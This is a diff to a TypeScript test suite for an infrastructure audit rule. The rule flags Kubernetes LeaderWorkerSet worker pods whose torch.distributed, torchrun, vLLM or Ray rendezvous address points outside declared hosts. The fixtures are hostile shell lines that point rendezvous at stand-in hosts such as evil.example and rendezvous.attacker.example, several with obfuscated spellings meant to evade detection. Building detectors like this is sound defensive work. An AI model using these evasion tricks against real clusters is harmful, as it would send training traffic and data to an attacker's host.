@@ -43,8 +43,29 @@ async function audit(dir: string) {
   };
 }
 
+/**
+ * The exit code and every SOV-012 finding that is not a pass, as `status path message` (an unknown
+ * is failed unless `allowUnknown` gives a reason).
+ */
+async function sov012(dir: string, allowUnknown?: string) {
+  const out: string[] = [];
+  const code = await run(dir, {
+    format: 'json',
+    today: '2026-12-07',
+    ...(allowUnknown ? { allowUnknown } : {}),
+    write: (s) => void out.push(s),
+  });
+  const report = JSON.parse(out.join('')) as AuditReport;
+  const found = report.stacks
+    .flatMap((s) => s.findings)
+    .filter((f) => f.rule === 'SOV-012' && (f.status === 'failed' || f.status === 'unknown'));
+  return { code, findings: found.map((f) => `${f.status} ${f.path} ${f.message}`) };
+}
+
 /** Edits the LeaderWorkerSet of a copy of the synthesized example and audits it. */
-async function tampered(edit: (lws: Json) => void) {
+async function tampered(edit: (lws: Json) => void): Promise<Awaited<ReturnType<typeof audit>>>;
+async function tampered<T>(edit: (lws: Json) => void, read: (dir: string) => Promise<T>): Promise<T>;
+async function tampered(edit: (lws: Json) => void, read: (dir: string) => Promise<unknown> = audit) {
   const d = join(tmp, `case${String(++n).padStart(2, '0')}`, 'cdktf.out');
   mkdirSync(join(d, '..'), { recursive: true });
   cpSync(pristine, d, { recursive: true });
@@ -54,7 +75,7 @@ async function tampered(edit: (lws: Json) => void) {
   ).manifest;
   edit(lws);
   writeFileSync(file(d), JSON.stringify(j, null, 2));
-  return audit(d);
+  return read(d);
 }
 const worker = (l: Json) => l.spec.leaderWorkerTemplate.workerTemplate.spec;
 const leader = (l: Json) => l.spec.leaderWorkerTemplate.leaderTemplate.spec;
@@ -187,6 +208,106 @@ describe('fails when a hostile value hides in one template only', () => {
     expect(r.messages).toContain(
       `SOV-012 ${WORKER}.envFrom[0] container vllm-worker: MASTER_ADDR=rendezvous.attacker.example (from ConfigMap peers key MASTER_ADDR) names rendezvous.attacker.example, outside the jurisdiction's declared hosts and CIDRs: torch.distributed would join its rendezvous there`,
     );
+  });
+
+  describe("the worker's script points its rendezvous elsewhere, however the shell spells it", () => {
+    const why = "outside the jurisdiction's declared hosts and CIDRs";
+    const script = (s: string) =>
+      tampered((l) => {
+        worker(l).containers[0].command = ['sh', '-c', `${s}\nexec torchrun --nnodes 2 train.py`];
+        worker(l).containers[0].args = [];
+      }, sov012);
+    test.each([
+      ["MASTER_ADDR=ev'il'.example", "MASTER_ADDR=ev'il'.example (evil.example)"],
+      ['export MASTER_ADDR="evil".example', 'MASTER_ADDR="evil".example (evil.example)'],
+      ['MASTER_ADDR=evil\\.example', 'MASTER_ADDR=evil\\.example (evil.example)'],
+      ['export MASTER_\\\nADDR=evil.example', 'MASTER_ADDR=evil.example'],
+      ['MASTER_ADDR+=evil.example', 'MASTER_ADDR+=evil.example'],
+      ["MASTER_ADDR=$'\\x65vil.example'", "MASTER_ADDR=$'\\x65vil.example' (evil.example)"],
+      ['export PET_MASTER_ADDR=evil.example', 'PET_MASTER_ADDR=evil.example'],
+    ])('fails on %j', async (s, shown) => {
+      const role = shown.startsWith('PET_')
+        ? 'torchrun would join its static rendezvous there'
+        : 'torch.distributed would join its rendezvous there';
+      expect(await script(s)).toEqual({
+        code: 1,
+        findings: [`failed ${WORKER}.command[2] ${shown} names evil.example, ${why}: ${role}`],
+      });
+    });
+    test('fails on torchrun --rdzv-endpoint and --rdzv_endpoint=, host or host:port', async () => {
+      expect(
+        await script(
+          'torchrun --rdzv-endpoint evil.example train.py; torchrun --rdzv_endpoint="evil2".example:29400',
+        ),
+      ).toEqual({
+        code: 1,
+        findings: [
+          `failed ${WORKER}.command[2] --rdzv-endpoint evil.example names evil.example, ${why}: the process would join or send work there`,
+          `failed ${WORKER}.command[2] --rdzv_endpoint "evil2".example:29400 (evil2.example:29400) names evil2.example, ${why}: the process would join or send work there`,
+        ],
+      });
+    });
+    test('an address read from a file when the script runs is unknown: the gate fails it (deny by default)', async () => {
+      const message = `${WORKER}.command[2] MASTER_ADDR=$(cat /etc/peer): the address comes from a value the audit cannot follow (a Secret, a ConfigMap, a shell variable or a command's output)`;
+      expect(await script('MASTER_ADDR=$(cat /etc/peer)')).toEqual({
+        code: 1,
+        findings: [`failed ${message}`],
+      });
+      expect(
+        await tampered(
+          (l) => {
+            worker(l).containers[0].command = [
+              'sh',
+              '-c',
+              'MASTER_ADDR=$(cat /etc/peer)\nexec torchrun x.py',
+            ];
+          },
+          (d) => sov012(d, 'peers are read from a file the image ships'),
+        ),
+      ).toEqual({ code: 0, findings: [`unknown ${message}`] });
+    });
+    test("a label named like Object's members is read as the pod's own label: no crash", async () => {
+      expect(
+        await tampered((l) => {
+          worker(l).containers[0].env.push({
+            name: 'MASTER_ADDR',
+            valueFrom: { fieldRef: { fieldPath: "metadata.labels['constructor']" } },
+          });
+        }, sov012),
+      ).toEqual({ code: 0, findings: [] });
+    });
+    test('an envFrom Secret that may set the rendezvous address is unknown, unless env sets it', async () => {
+      const secret = (l: Json) => {
+        worker(l).containers[0].envFrom = [{ secretRef: { name: 'x' } }];
+        worker(l).containers[0].command = ['sh', '-c', 'exec torchrun --nnodes 2 train.py'];
+        worker(l).containers[0].args = [];
+      };
+      const message = `${WORKER}.envFrom[0] container vllm-worker: Secret x may set MASTER_ADDR, PET_MASTER_ADDR, PET_RDZV_ENDPOINT, PET_LOCAL_ADDR, VLLM_HOST_IP, VLLM_DP_MASTER_IP, VLLM_NIXL_SIDE_CHANNEL_HOST, VLLM_LOOPBACK_IP, RAY_ADDRESS, NCCL_COMM_ID, LLAMA_ARG_RPC, which the audit cannot follow: a process would connect to the peer address it names`;
+      expect(await tampered(secret, sov012)).toEqual({ code: 1, findings: [`failed ${message}`] });
+      expect(await tampered(secret, (d) => sov012(d, 'the Secret holds tokens only'))).toEqual({
+        code: 0,
+        findings: [`unknown ${message}`],
+      });
+      // env sets the address itself: it wins over the Secret.
+      expect(
+        await tampered((l) => {
+          secret(l);
+          worker(l).containers[0].envFrom[0].prefix = 'VLLM_';
+          worker(l).containers[0].env.push(
+            { name: 'VLLM_HOST_IP', valueFrom: { fieldRef: { fieldPath: 'status.podIP' } } },
+            { name: 'VLLM_DP_MASTER_IP', value: '$(LWS_LEADER_ADDRESS)' },
+            { name: 'VLLM_NIXL_SIDE_CHANNEL_HOST', value: '10.60.0.7' },
+            { name: 'VLLM_LOOPBACK_IP', value: '127.0.0.1' },
+          );
+        }, sov012),
+      ).toEqual({ code: 0, findings: [] });
+      expect(
+        await tampered((l) => {
+          secret(l);
+          worker(l).containers[0].envFrom[0].prefix = 'TOKEN_';
+        }, sov012),
+      ).toEqual({ code: 0, findings: [] });
+    });
   });
 
   test("passes: the pod's own address, the leader the controller provides and in-CIDR addresses in the environment", async () => {
